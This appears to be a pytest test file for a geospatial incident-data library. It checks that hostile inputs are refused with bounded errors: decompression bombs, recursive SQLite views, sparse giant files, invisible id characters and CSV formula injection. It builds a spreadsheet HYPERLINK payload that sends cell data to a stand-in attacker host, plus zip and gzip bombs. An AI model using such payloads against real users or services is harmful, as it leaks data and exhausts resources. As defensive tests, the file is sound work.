"""Hostile local files: every read ends in a clear InputError within its bounds.

Recursive GeoPackage views, views of huge strings, decompression bombs, huge fields,
sparse giant files, a Mars CRS, NUL bytes and invisible id characters; formula
injection in CSV exports; and the CLI printing one line, never a traceback.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely

from ward_geo import settings
from ward_geo.errors import InputError
from ward_geo.io.readers import read_incidents, validate_incidents
from ward_geo.io.validation import ValidationReport

VENV_BIN = Path(sys.executable).parent
MARS_WKT = (
    'GEOGCS["Mars 2000",DATUM["D_Mars_2000",SPHEROID["Mars_2000_IAU_IAG",3396190.0,169.8944472236118]],'
    'PRIMEM["Reference_Meridian",0.0],UNIT["Degree",0.0174532925199433]]'
)
HEADER = "id,lon,lat,time,description\n"
ROW = "a1,105.85,21.03,2025-05-01 10:00,ok\n"


def _limit(monkeypatch: pytest.MonkeyPatch, **values: object) -> None:
    for key, value in values.items():
        monkeypatch.setenv(f"WARD_GEO_{key.upper()}", str(value))
    settings.reset_settings()


def _one_point_gpkg(path: Path) -> None:
    gdf = gpd.GeoDataFrame({"id": ["a"], "time": ["2025-05-01 10:00"]},
                           geometry=[shapely.Point(105.85, 21.03)], crs=4326)
    gdf.to_file(path, layer="base", driver="GPKG")


def make_view_gpkg(path: Path, view_sql: str) -> Path:
    """A GeoPackage whose only registered layer is the view ``v`` (built with sqlite3)."""
    _one_point_gpkg(path)
    with sqlite3.connect(path) as con:
        con.executescript(
            f"""
            CREATE VIEW v AS {view_sql};
            INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('v', 'features', 'v', 4326);
            INSERT INTO gpkg_geometry_columns (table_name, column_name, geometry_type_name, srs_id, z, m)
                VALUES ('v', 'geom', 'POINT', 4326, 0, 0);
            DELETE FROM gpkg_geometry_columns WHERE table_name = 'base';
            DELETE FROM gpkg_contents WHERE table_name = 'base';
            """
        )
    return path


RECURSIVE_VIEW = (
    "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) "
    "SELECT x AS fid, (SELECT geom FROM base LIMIT 1) AS geom, '2025-05-01 10:00' AS time, 'i' || x AS id FROM r"
)
HUGE_STRING_VIEW = (
    "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r WHERE x < 1000) "
    "SELECT x AS fid, (SELECT geom FROM base LIMIT 1) AS geom, '2025-05-01 10:00' AS time, 'i' || x AS id, "
    "printf('%.*c', 50000000, 'x') AS description FROM r"
)


# ---------------------------------------------------------------- GeoPackage / SQLite budgets
def test_recursive_view_geopackage_stops_within_the_time_budget(tmp_path, monkeypatch):
    path = make_view_gpkg(tmp_path / "recursive.gpkg", RECURSIVE_VIEW)
    _limit(monkeypatch, read_vector_timeout_s=3)
    start = time.monotonic()
    with pytest.raises(InputError) as info:
        read_incidents(path)
    elapsed = time.monotonic() - start
    message = str(info.value)
    assert "recursive.gpkg" in message and "WARD_GEO_READ_VECTOR_TIMEOUT_S=3" in message
    assert str(tmp_path) not in message
    assert elapsed < 30, elapsed


def test_huge_string_view_stops_within_the_memory_budget(tmp_path, monkeypatch):
    path = make_view_gpkg(tmp_path / "strings.gpkg", HUGE_STRING_VIEW)
    _limit(monkeypatch, read_vector_memory_bytes=512 * 1024**2, read_vector_timeout_s=120)
    with pytest.raises(InputError) as info:
        read_incidents(path)
    assert "strings.gpkg" in str(info.value)
    assert "WARD_GEO_READ_VECTOR_MEMORY_BYTES=536870912" in str(info.value)


def test_ordinary_geopackage_still_reads_through_the_child(tmp_path):
    path = tmp_path / "fine.gpkg"
    _one_point_gpkg(path)
    gdf = read_incidents(path)
    assert list(gdf["incident_id"]) == ["a"]
    assert gdf.crs.to_epsg() == 4326


# ---------------------------------------------------------------- decompression bombs
def _bomb_text(size: int) -> bytes:
    return (HEADER + "b1,105.85,21.03,2025-05-01 10:00,\"" + "A" * size + "\"\n").encode()


def test_gzip_bomb_stops_at_the_decompressed_limit(tmp_path, monkeypatch):
    path = tmp_path / "bomb.csv.gz"
    path.write_bytes(gzip.compress(_bomb_text(64 * 1024**2), compresslevel=9))
    assert path.stat().st_size < 200_000
    _limit(monkeypatch, read_max_bytes=4 * 1024**2, read_max_line_bytes=512 * 1024**2)
    with pytest.raises(InputError) as info:
        read_incidents(path)
    assert "bomb.csv.gz" in str(info.value) and "WARD_GEO_READ_MAX_BYTES=4194304" in str(info.value)


def test_zip_bomb_stops_at_the_decompressed_limit(tmp_path, monkeypatch):
    path = tmp_path / "bomb.csv.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("bomb.csv", _bomb_text(64 * 1024**2))
    assert path.stat().st_size < 200_000
    _limit(monkeypatch, read_max_bytes=4 * 1024**2, read_max_line_bytes=512 * 1024**2)
    with pytest.raises(InputError) as info:
        read_incidents(path)
    assert "bomb.csv.zip" in str(info.value) and "WARD_GEO_READ_MAX_BYTES" in str(info.value)


def test_gzip_bomb_with_default_limits_stops_at_the_line_bound(tmp_path):
    path = tmp_path / "bomb.csv.gz"
    path.write_bytes(gzip.compress(_bomb_text(64 * 1024**2), compresslevel=9))
    with pytest.raises(InputError) as info:
        read_incidents(path)
    assert "line 2" in str(info.value) and "WARD_GEO_READ_MAX_LINE_BYTES" in str(info.value)


def test_gzipped_geojson_bytes_are_bounded(monkeypatch):
    body = gzip.compress(b'{"type": "FeatureCollection", "features": [], "pad": "' + b" " * (8 * 1024**2) + b'"}')
    _limit(monkeypatch, read_max_bytes=1024**2)
    with pytest.raises(InputError, match="WARD_GEO_READ_MAX_BYTES"):
        validate_incidents(body)


# ---------------------------------------------------------------- huge fields and files
def test_huge_field_csv_names_row_and_field(tmp_path):
    path = tmp_path / "long.csv"
    path.write_text(HEADER + ROW + "a2,105.85,21.03,2025-05-01 10:00," + "x" * 100_000 + "\n")
    with pytest.raises(InputError) as info:
        read_incidents(path)
    message = str(info.value)
    assert "long.csv: row 2, field 'description': 100000 characters" in message
    assert "WARD_GEO_READ_MAX_FIELD_CHARS=65536" in message


def test_huge_multiline_quoted_field_names_the_row(tmp_path, monkeypatch):
    lines = "\n".join(["y" * 1000] * 200)
    path = tmp_path / "quoted.csv"
    path.write_text(HEADER + ROW + f'a2,105.85,21.03,2025-05-01 10:00,"{lines}"\n')
    with pytest.raises(InputError) as info:
        read_incidents(path)
    assert "row 2" in str(info.value) and "description" in str(info.value)


def test_sparse_giant_csv_is_refused_without_reading_it_whole(tmp_path):
    path = tmp_path / "sparse.csv"
    with open(path, "wb") as fh:
        fh.write((HEADER + ROW).encode())
        fh.truncate(3 * 1024**3)  # 3 GB of NUL bytes, no disk used
    start = time.monotonic()
    with pytest.raises(InputError) as info:
        read_incidents(path)
    assert "sparse.csv" in str(info.value) and "WARD_GEO_READ_MAX_LINE_BYTES" in str(info.value)
    assert time.monotonic() - start < 20


def test_sparse_file_of_short_lines_stops_at_the_byte_limit(tmp_path, monkeypatch):
    path = tmp_path / "many.csv"
    with open(path, "wb") as fh:
        fh.write(HEADER.encode())
        fh.write(ROW.replace("a1", "b").encode() * 200_000)
    _limit(monkeypatch, read_max_bytes=1024**2)
    with pytest.raises(InputError, match=r"many.csv: the read content exceeds WARD_GEO_READ_MAX_BYTES=1048576"):
        read_incidents(path)


def test_row_limit(tmp_path, monkeypatch):
    path = tmp_path / "rows.csv"
    path.write_text(HEADER + "".join(ROW.replace("a1", f"r{i}") for i in range(50)))
    _limit(monkeypatch, read_max_rows=10)
    with pytest.raises(InputError, match="WARD_GEO_READ_MAX_ROWS=10"):
        read_incidents(path)


def test_large_csv_is_read_in_chunks_with_every_row(tmp_path):
    n = 300_000  # more than one chunk
    path = tmp_path / "big.csv"
    with open(path, "w") as fh:
        fh.write(HEADER)
        fh.writelines(f"r{i},105.85,21.03,2025-05-01 10:00,ok\n" for i in range(n))
    gdf, report = read_incidents(path, return_report=True)
    assert report.rows_read == report.rows_accepted == n
    assert gdf["incident_id"].iloc[-1] == f"r{n - 1}"


# ---------------------------------------------------------------- CRS
def _mars_shapefile(folder: Path) -> Path:
    gdf = gpd.GeoDataFrame({"id": ["a"], "time": ["2025-05-01 10:00"]},
                           geometry=[shapely.Point(105.85, 21.03)], crs=4326)
    path = folder / "mars.shp"
    gdf.to_file(path)
    path.with_suffix(".prj").write_text(MARS_WKT)
    return path


def test_mars_prj_is_an_unknown_crs_input_error(tmp_path):
    with pytest.raises(InputError) as info:
        read_incidents(_mars_shapefile(tmp_path))
    assert "unknown CRS 'Mars 2000'" in str(info.value) and "not a CRS of the Earth" in str(info.value)


def test_mars_crs_argument_is_refused(tmp_path):
    with pytest.raises(InputError, match="unknown CRS"):
        validate_incidents("id,x,y,time\na,1,2,2025-05-01 10:00\n", crs=MARS_WKT)


# ---------------------------------------------------------------- CLI
@pytest.mark.parametrize("kind", ["mars", "bomb"])
def test_cli_prints_one_line_not_a_traceback(tmp_path, kind):
    if kind == "mars":
        path = _mars_shapefile(tmp_path)
        env_extra = {}
    else:
        path = tmp_path / "bomb.csv.gz"
        path.write_bytes(gzip.compress(_bomb_text(32 * 1024**2), compresslevel=9))
        env_extra = {"WARD_GEO_READ_MAX_BYTES": str(2 * 1024**2), "WARD_GEO_READ_MAX_LINE_BYTES": str(256 * 1024**2)}
    env = {**os.environ, "COLUMNS": "200", **env_extra}
    proc = subprocess.run([str(VENV_BIN / "ward-geo"), "validate", str(path)], capture_output=True, text=True,
                          env=env, timeout=120, check=False)
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr + proc.stdout
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert 1 <= len(lines) <= 3, proc.stderr
    assert lines[0].startswith("error:")
    assert str(tmp_path) not in proc.stderr


# ---------------------------------------------------------------- text content
def test_nul_byte_rejects_the_row_naming_the_field():
    text = HEADER + ROW + "a2,105.85,21.03,2025-05-01 10:00,bad\x00tail\n" + "a3\x00x,105.85,21.03,2025-05-01 10:00,ok\n"
    gdf, report = validate_incidents(text, return_report=True)
    assert list(gdf["incident_id"]) == ["a1"]
    rejected = {(i.row, i.field) for i in report.issues if i.action == "rejected"}
    assert rejected == {(2, "description"), (3, "id")}
    assert all("NUL" in i.reason for i in report.issues if i.action == "rejected")


@pytest.mark.parametrize("char", ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u202e", "\u202a", "\u2066",
                                  "\u2069", "\u200e", "\u200f"])
def test_invisible_characters_in_ids_are_rejected(char):
    text = HEADER + ROW + f"a{char}1,105.85,21.03,2025-05-01 10:00,twin\n"
    gdf, report = validate_incidents(text, return_report=True)
    assert list(gdf["incident_id"]) == ["a1"]
    [issue] = [i for i in report.issues if i.action == "rejected"]
    assert (issue.row, issue.field) == (2, "id")
    assert f"U+{ord(char):04X}" in issue.reason and "ids must be visible text" in issue.reason


def test_ids_are_nfc_normalised_so_look_alikes_collide():
    nfd = "vu-vie\u0302\u0323c-1"  # "vụ-việc" decomposed
    nfc = "vu-vi\u1ec7c-1"
    text = HEADER + f"{nfc},105.85,21.03,2025-05-01 10:00,same\n" + f"{nfd},105.85,21.03,2025-05-01 10:00,same\n"
    gdf, report = validate_incidents(text, return_report=True)
    assert list(gdf["incident_id"]) == [nfc]
    assert report.duplicates_dropped == 1


# ---------------------------------------------------------------- formula injection
def test_validation_report_csv_neutralises_formulas():
    from ward_geo.io.writers import neutralise_formula

    report = ValidationReport(source="x")
    for row, value in enumerate(['=HYPERLINK("http://evil.example/?d="&A1,"x")', "=1+1", "-2+3", "+1", "@SUM(A1)",
                                 "\tx", "plain", "-12.5"], start=1):
        report.add(row, "description", "reason", "warning", value)
    rows = list(csv.DictReader(io.StringIO(report.to_csv())))
    values = [r["value"] for r in rows]
    assert values == ["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")", "'=1+1", "'-2+3", "'+1", "'@SUM(A1)",
                      "'\tx", "plain", "'-12.5"]
    assert [r["row"] for r in rows] == [str(i) for i in range(1, 9)]  # numbers stay numbers
    assert neutralise_formula("\rx") == "'\rx"


def test_csv_safe_frame_keeps_numbers_and_prefixes_text():
    from ward_geo.io.writers import csv_safe_frame, neutralise_formula

    frame = pd.DataFrame({"description": ["=1+1", "ok", None], "lon": [-105.5, 1.0, 2.0]})
    out = csv_safe_frame(frame)
    assert list(out["description"])[:2] == ["'=1+1", "ok"] and pd.isna(out["description"].iloc[2])
    assert list(out["lon"]) == [-105.5, 1.0, 2.0]
    assert neutralise_formula(-3) == -3


def test_cli_csv_output_neutralises_formulas(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text(HEADER + 'f1,105.85,21.03,2025-05-01 10:00,"=HYPERLINK(""http://x"",""y"")"\n')
    from ward_geo.cli import _write_incidents_file

    out = _write_incidents_file(read_incidents(source), tmp_path / "out.csv")
    rows = list(csv.DictReader(out.open()))
    assert rows[0]["description"].startswith("'=HYPERLINK")
